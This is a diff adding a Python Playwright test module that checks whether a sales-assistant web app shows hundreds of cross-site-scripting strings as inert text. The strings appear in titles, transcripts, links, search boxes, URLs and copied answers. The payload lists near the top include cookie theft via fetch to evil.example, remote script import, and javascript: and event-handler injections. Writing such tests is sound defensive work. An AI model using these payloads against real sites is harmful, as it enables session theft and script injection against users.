@@ -1,0 +1,199 @@
+"""Hundreds of strings that elsewhere became scripts, links out or mark-up, in every field that can be filled: here they are text."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from dataclasses import replace
+from datetime import UTC, datetime, timedelta
+from itertools import product
+from pathlib import Path
+from typing import TYPE_CHECKING, Any
+from urllib.parse import quote
+
+import pytest
+
+from assistant.wiring import Kit, open_kit
+from ingest.archive.archive import Archive
+from ingest.archive.rows import Held
+from ingest.archive.scope import EVERYTHING
+from ingest.records import Call, Note, Participant, Turn
+from ingest.wiring import open_home
+from tests.api.browsing import Watched, site, watched
+from tests.api.served import DANA, MARTA, no_weights, put_interaction
+
+if TYPE_CHECKING:
+    from playwright.sync_api import Browser, Page
+
+RUNS = (
+    "hit()", "hit`1`", "window.hit()", "top.hit()", "alert(1)", "import('//evil.example/x')", "fetch('//evil.example/?'+document.cookie)",
+    "location='//evil.example'", "eval('hit()')", "setTimeout('hit()')",
+)  # fmt: skip
+WRAPS = (
+    "<script>{}</script>", "<img src=x onerror={}>", '<img src="x" onerror="{}">', "<svg onload={}>", "<svg><script>{}</script></svg>",
+    "<svg><animate onbegin={} attributeName=x dur=1s>", "<iframe srcdoc='<script>{}</script>'></iframe>", "<iframe src=\"javascript:{}\">",
+    "<a href=\"javascript:{}\">x</a>", "[x](javascript:{})", "![x](https://evil.example/p.png?{})", "<details open ontoggle={}>",
+    "<body onload={}>", "<input autofocus onfocus={}>", "<video><source onerror={}>", "<math><mtext><script>{}</script></mtext></math>",
+    "<form><button formaction=\"javascript:{}\">x", "<object data=\"javascript:{}\">", "<embed src=\"javascript:{}\">",
+    "<meta http-equiv=refresh content=\"0;url=javascript:{}\">", "<link rel=stylesheet href=\"https://evil.example/x.css?{}\">",
+    "<style>@import 'https://evil.example/{}';</style>", "<base href=\"https://evil.example/{}\">",
+    "<template><img src=x onerror={}></template>",
+    "\"><img src=x onerror={}>", "'-{}-'", "</textarea><script>{}</script>", "</title><script>{}</script>", "</script><script>{}</script>",
+    "<!--><script>{}</script>", "<![CDATA[<script>{}</script>]]>", "javascript:{}", "data:text/html,<script>{}</script>", "vbscript:{}",
+    "${{{}}}", "{{{{{}}}}}", "<%= {} %>", "&lt;script&gt;{}&lt;/script&gt;", "&#60;img src=x onerror={}&#62;", "\\u003cscript\\u003e{}",
+    "**bold** __x__ `{}` <b>b</b>", "\u202e{}\u202c",
+)  # fmt: skip
+HOSTILE = [wrap.format(run) for wrap, run in product(WRAPS, RUNS)]
+AT_ONCE = 60
+"""Of them in one call, mail or list."""
+
+
+@pytest.fixture(scope="module")
+def hostile_home(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """An account, people, titles, words, held things and links that are all hostile."""
+    home = tmp_path_factory.mktemp("hostile")
+    day = datetime(2026, 1, 1, 12, tzinfo=UTC)
+    with Archive.open(home, write=True) as archive, archive.transaction():
+        account = archive.put_account(HOSTILE[1], ["hostile.example"])
+        for number, words in enumerate(HOSTILE):
+            who = Participant(words, f"p{number}@hostile.example", words, "buyer")
+            note = Note(
+                source="salesforce",
+                external_id=f"n{number}",
+                title=words,
+                occurred_at=day + timedelta(hours=number),
+                participants=(DANA, who),
+                turns=(Turn(words, who),),
+                url=words,
+            )
+            put_interaction(archive, account, None, note)
+        for first in range(0, len(HOSTILE), AT_ONCE):
+            turns = tuple(
+                Turn(words, replace(MARTA, name=words), starts_s=10.0 * n) for n, words in enumerate(HOSTILE[first : first + AT_ONCE])
+            )
+            call = Call(source="gong", external_id=f"c{first}", title="A call", occurred_at=day, participants=(DANA, MARTA), turns=turns)
+            put_interaction(archive, account, None, call)
+        held = [
+            Held(words, "no_account", words, (words,), item=f"hld_{n:010}", kind="email", title=words, people=(words,))
+            for n, words in enumerate(HOSTILE)
+        ]
+        archive.set_aside_held("in/x", held)
+    return home
+
+
+@pytest.fixture(scope="module")
+def kit(hostile_home: Path) -> Iterator[Kit]:
+    with open_kit(open_home(hostile_home, write=True, load_embedder=no_weights)) as opened:
+        yield opened
+
+
+@pytest.fixture(scope="module")
+def seen(browser: Browser, kit: Kit) -> Iterator[Watched]:
+    """Whatever runs, asks elsewhere, opens a dialog or meets the page's policy is a fault."""
+    with site(kit) as (base, _), watched(browser, base) as found:
+        found.context.add_init_script("window.hit = () => console.error('a hostile string ran');")
+        yield found
+
+
+@pytest.fixture
+def page(seen: Watched) -> Iterator[Page]:
+    opened = seen.page()
+    yield opened
+    opened.close()
+
+
+def words_of(page: Page, selector: str) -> list[str]:
+    return list(page.locator(selector).all_text_contents())
+
+
+def home_of(kit: Kit) -> str:
+    return f"/a/{kit.archive.accounts(EVERYTHING)[0].id}"
+
+
+def test_there_are_enough_of_them() -> None:
+    assert len(set(HOSTILE)) >= 400
+
+
+def test_titles_and_names_in_the_history_are_what_was_written(kit: Kit, page: Page) -> None:
+    page.goto(f"{home_of(kit)}/sources?kind=crm_note")
+    page.wait_for_function("wanted => document.querySelectorAll('.row').length === wanted", arg=len(HOSTILE))
+    assert words_of(page, ".row .names b") == HOSTILE
+    assert words_of(page, ".row .names > span") == [f"Dana Okafor, {words}" for words in HOSTILE]
+    assert page.locator(".names b").first.text_content() == HOSTILE[1]  # the account's, in the rail
+
+
+def test_what_was_said_is_what_was_written(kit: Kit, page: Page) -> None:
+    calls = [source for source in kit.archive.sources(EVERYTHING) if source.kind == "call"]
+    said: list[str] = []
+    speakers: list[str] = []
+    for call in sorted(calls, key=lambda source: int(source.external_id[1:])):
+        page.goto(f"{home_of(kit)}/sources?s={call.id}")
+        page.locator(".ev .seg").first.wait_for()
+        while page.get_by_role("button", name="more turn").count():
+            before = page.locator(".ev .seg").count()
+            page.get_by_role("button", name="more turn").click()
+            page.wait_for_function("before => document.querySelectorAll('.ev .seg').length > before", arg=before)
+        said += words_of(page, ".ev .said")
+        speakers += page.locator(".ev .speaker").evaluate_all("all => all.map((one) => one.firstChild.textContent)")
+    assert said == HOSTILE
+    assert len(speakers) == len(HOSTILE)
+
+
+def test_a_link_that_is_no_web_address_is_never_one(kit: Kit, page: Page) -> None:
+    note = next(source for source in kit.archive.sources(EVERYTHING) if source.title.startswith("javascript:"))
+    page.goto(f"{home_of(kit)}/sources?s={note.id}")
+    page.locator(".ev .seg").first.wait_for()
+    schemes = page.locator("a[href]").evaluate_all("all => [...new Set(all.map((one) => new URL(one.href).origin))]")
+    assert schemes == [page.evaluate("location.origin")]
+    assert page.locator(".ev [data-original]").count() == 0
+
+
+def test_people_and_what_is_held_are_what_was_written(kit: Kit, page: Page) -> None:
+    page.goto(f"{home_of(kit)}/people")
+    page.locator(".persons li").first.wait_for()
+    assert set(HOSTILE) <= set(words_of(page, ".persons .names b"))
+    page.goto("/imports")
+    page.locator(".held li").first.wait_for()
+    assert sorted(words_of(page, ".held h3")) == sorted(HOSTILE)
+    assert sorted(words_of(page, ".held .file")) == sorted(HOSTILE)
+
+
+def test_what_a_reader_types_is_what_is_shown(kit: Kit, page: Page) -> None:
+    page.goto(home_of(kit))
+    for words in HOSTILE[:: len(HOSTILE) // 12]:
+        page.locator("#question").fill(words)
+        page.locator("#question").press("Enter")
+        page.locator("article.turn:last-child .acts").wait_for()
+    assert words_of(page, "article.turn h2") == [" ".join(words.split()) for words in HOSTILE[:: len(HOSTILE) // 12]]
+    fields = {f"{home_of(kit)}/sources": "the deal history", "/promises": "promises", f"{home_of(kit)}/people": "people"}
+    for path, label in fields.items():
+        page.goto(path)
+        for words in HOSTILE[:: len(HOSTILE) // 8]:
+            page.get_by_label(f"Search {label}").fill(words[:200])
+        page.reload()
+        page.get_by_label(f"Search {label}").wait_for()
+
+
+def test_an_address_is_no_way_in_either(kit: Kit, page: Page) -> None:
+    home = home_of(kit)
+    for words in HOSTILE[:: len(HOSTILE) // 4]:
+        put = quote(words, safe="")
+        for path in (f"/a/{put}", f"{home}/sources?q={put}", f"{home}?c={put}", f"{home}/t/{put}", f"/#/{put}"):
+            page.goto(path)
+            page.locator("main h1, main h2, main h3, pre").first.wait_for(state="attached")  # a slash in a name is no page of ours
+
+
+def test_a_copied_answer_carries_no_mark_up_of_its_words(kit: Kit, browser: Browser) -> None:
+    permissions: Any = ["clipboard-read", "clipboard-write"]
+    with site(kit) as (base, _), watched(browser, base, permissions=permissions) as found:
+        page = found.page()
+        page.goto(home_of(kit))
+        page.locator("#question").fill("What is img src x onerror hit?")
+        page.locator("#question").press("Enter")
+        page.locator("article.turn .acts").wait_for()
+        if not page.get_by_role("button", name="Copy with sources").count():
+            pytest.skip("no answer to copy")
+        page.get_by_role("button", name="Copy with sources").click()
+        page.get_by_role("button", name="Copied").wait_for()
+        mark_up = page.evaluate("async () => (await (await navigator.clipboard.read())[0].getType('text/html')).text()")
+        assert "<img" not in mark_up
+        assert "<script" not in mark_up
